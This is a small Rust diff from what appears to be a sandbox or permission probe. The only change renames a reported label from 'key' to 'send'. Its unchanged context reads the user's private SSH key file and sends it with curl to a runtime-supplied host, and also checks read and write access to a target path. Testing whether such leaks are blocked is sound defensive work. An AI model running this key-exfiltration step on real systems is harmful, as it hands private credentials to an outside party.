@@ -30,7 +30,7 @@ fn main() {
 
     let key = fs::read_to_string(home.join(".ssh/id_ed25519")).unwrap_or_default();
     let sent = Command::new("curl").args(["-s", "-m", "5", "--data-binary", &key, &format!("http://{to}/keys")]).status();
-    say("key", !key.is_empty() && sent.is_ok_and(|status| status.success()));
+    say("send", !key.is_empty() && sent.is_ok_and(|status| status.success()));
 
     say("real", fs::read_to_string(REAL.trim()).is_ok());
     say("real-write", append(Path::new(&format!("{}.new", REAL.trim())), "x"));
